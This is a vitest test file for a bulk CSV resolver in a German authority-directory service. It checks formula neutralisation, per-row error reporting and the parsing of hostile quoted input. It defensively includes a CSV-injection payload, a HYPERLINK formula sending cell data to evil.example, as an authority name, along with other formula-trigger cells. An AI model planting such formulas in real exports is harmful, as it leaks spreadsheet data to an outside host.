// The resolve CSV output and input as hostile files see them: cells a spreadsheet would run as
// formulas are neutralised, a malformed row is one ERROR row with its line and the run goes on, and
// a 5 MB file full of stray quotes is read in one pass by csv-parse, one output row per input row.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import * as csvParse from 'csv-parse/sync';
import { afterAll, beforeAll, expect, it, vi } from 'vitest';
import type { Database } from '../src/db/client.js';
import { ManualClock } from '../src/lib/clock.js';
import { createAuthority } from '../src/modules/authorities/authorities.service.js';
import { makeServiceContext } from '../src/modules/directory/context.js';
import { Directory } from '../src/modules/directory/directory.js';
import type { DirectoryIndex } from '../src/modules/directory/directory-index.js';
import { resolveCsv } from '../src/modules/jurisdictions/bulk-csv.js';
import { createJurisdiction } from '../src/modules/jurisdictions/jurisdictions.service.js';
import { loadDemoSeed } from '../seed/load.js';
import { forEachEngine } from './helpers/engines.js';
import { testActor } from './helpers/fixtures.js';

// The real csv-parse, with its calls counted: the test proves the rows went through the library.
const csvParseCalls = vi.hoisted(() => ({ n: 0 }));
vi.mock('csv-parse/sync', async (importOriginal) => {
  const real = await importOriginal<typeof import('csv-parse/sync')>();
  const parse = ((...args: Parameters<typeof real.parse>) => {
    csvParseCalls.n++;
    return real.parse(...args);
  }) as typeof real.parse;
  return { ...real, parse };
});

const EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A2,"Klick")';

async function resolveText(index: DirectoryIndex, file: string, text: string) {
  fs.writeFileSync(file, text);
  const chunks: string[] = [];
  const output = new PassThrough();
  output.on('data', (d) => chunks.push(String(d)));
  const summary = await resolveCsv({ input: file, output, index, today: '2026-11-22' });
  // The output is read back with csv-parse, so cells are compared as a spreadsheet sees them.
  const records = csvParse.parse(chunks.join('')) as string[][];
  return { summary, header: records[0]!, rows: records.slice(1) };
}

forEachEngine('resolve CSV: hostile input and output', (engine) => {
  let database: Database;
  let index: DirectoryIndex;
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'bv-bulk-csv-'));
  const clock = new ManualClock('2026-11-22T10:00:00Z');

  beforeAll(async () => {
    database = await engine.open();
    await loadDemoSeed(database.db, clock, testActor);
    const directory = new Directory(database, { pollMs: 0 });
    const ctx = makeServiceContext({ db: database.db, clock, principal: { subject: 'admin', role: 'ADMIN', scope: null }, actor: testActor, directory });
    // An authority renamed by someone who hopes a clerk opens the results in a spreadsheet.
    await createAuthority(ctx, { key: 'ags:05766020', kind: 'ENFORCEMENT', name: EVIL_NAME, postalAddress: { street: 'Markt', houseNumber: '1', postalCode: '32756', city: '@Detmold' } });
    await createJurisdiction(ctx, { authorityKey: 'ags:05766020', scope: { level: 'MUNICIPALITY', key: '05766020' } });
    index = await new Directory(database, { pollMs: 0 }).get();
  });
  afterAll(async () => {
    await database?.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('neutralises formulas in echoed cells and in directory data; plain numbers stay', async () => {
    const { header, rows } = await resolveText(
      index,
      path.join(dir, 'formulas.csv'),
      ['id,ags,phone,note,=cmd', '1,05766020,+49 30 1234,@SUM(1),x', '-12,05766020,+49,-,=1+1', ''].join('\n'),
    );
    expect(header.slice(0, 5)).toEqual(['id', 'ags', 'phone', 'note', `'=cmd`]);
    const col = (name: string) => header.indexOf(name);
    expect(rows[0]!.slice(0, 5)).toEqual(['1', '05766020', `'+49 30 1234`, `'@SUM(1)`, 'x']);
    expect(rows[1]!.slice(0, 5)).toEqual(['-12', '05766020', '+49', `'-`, `'=1+1`]);
    for (const row of rows) {
      expect(row[col('status')]).toBe('RESOLVED');
      expect(row[col('authority_name')]).toBe(`'${EVIL_NAME}`);
      expect(row[col('authority_city')]).toBe(`'@Detmold`);
    }
  });

  it('a row the lookup refuses is an ERROR naming its line and column; the run goes on', async () => {
    const { rows } = await resolveText(
      index,
      path.join(dir, 'refused.csv'),
      ['id,strasse,Hausnummer,PLZ,ort,at,message_type', '1,,,12,Detmold,,', '2,,,32756,Detmold,2026-13-45,', '3,,,32756,Detmold,,777', '4,,5,32756,Detmold,,', '5,,,,,,', '6,,,32756,Detmold,,', '7,Markt,1,,,,'].join('\n'),
    );
    expect(rows.map((r) => [r[0], r[7], r[17]])).toEqual([
      ['1', 'ERROR', 'line 2, column PLZ: "12" is not a postcode: expected 5 digits'],
      ['2', 'ERROR', 'line 3, column at: "2026-13-45" is not a date YYYY-MM-DD'],
      ['3', 'ERROR', expect.stringMatching(/^line 4, column message_type: "777" is not an XAmtshilfe message type/)],
      ['4', 'ERROR', 'line 5, column Hausnummer: needs a street'],
      ['5', 'ERROR', expect.stringMatching(/^line 6: give one of address, ags, ars/)],
      ['6', 'RESOLVED', ''],
      ['7', 'ERROR', 'line 8: the address needs a postalCode or a city'],
    ]);
  });

  it('a malformed row is an ERROR with its line and reason; the rows after it are resolved', async () => {
    const { summary, rows } = await resolveText(
      index,
      path.join(dir, 'stray.csv'),
      ['id,ags', '1,05766020', '2,0576"6020', '3,"05766020', '4,05766020', '5,05766020,extra', '6,05766020', ''].join('\n'),
    );
    expect(rows.map((r) => [r[0], r[2], r[12]])).toEqual([
      ['1', 'RESOLVED', ''],
      ['', 'ERROR', 'line 3: stray quote inside unquoted field 2'],
      ['', 'ERROR', 'line 4: unterminated quoted field (field 2)'],
      ['4', 'RESOLVED', ''],
      ['5', 'ERROR', 'line 6: has 3 fields, the header has 2'],
      ['6', 'RESOLVED', ''],
    ]);
    expect(summary).toEqual({ rows: 6, byStatus: { RESOLVED: 3, ERROR: 3 } });
  });

  // Parsing only: the database just supplies the index, so PostgreSQL adds nothing here.
  it.runIf(engine.name === 'pglite')('a 5 MB file full of stray and unterminated quotes: one pass, one output row per input row', async () => {
    const kinds = [
      '{i},Bruchstraße,12,Detmold,05766020',
      '{i},Haus "Sonne",12,Detmold,05766020',
      '"{i}","Bruchstraße, Hinterhaus",12,Detmold,05766020',
      '{i},"Bruchstraße,12,Detmold,05766020',
      '{i},"Bruch"straße,12,Detmold,05766020',
      '{i},Bruchstraße,12,Detmold,05766020,"',
    ];
    const lines = ['id,street,houseNumber,city,ags'];
    let size = 0;
    for (let i = 0; size < 5 * 1024 * 1024; i++) {
      const line = kinds[i % kinds.length]!.replace('{i}', String(i));
      lines.push(line);
      size += line.length + 1;
    }
    csvParseCalls.n = 0;
    const { summary, rows } = await resolveText(index, path.join(dir, 'hostile.csv'), lines.join('\n') + '\n');
    expect(rows).toHaveLength(lines.length - 1);
    expect(summary.rows).toBe(lines.length - 1);
    // Only the well-formed kinds (0 and 2) resolve; every other line is its own ERROR row.
    const resolvable = lines.slice(1).filter((_, i) => i % kinds.length === 0 || i % kinds.length === 2).length;
    expect(summary.byStatus).toEqual({ RESOLVED: resolvable, ERROR: lines.length - 1 - resolvable });
    expect(rows.filter((r) => r[2] === 'ERROR').every((r) => /^line \d+: /.test(r[12]!))).toBe(true);
    expect(csvParseCalls.n).toBeGreaterThan(0);
  }, 120_000);
});
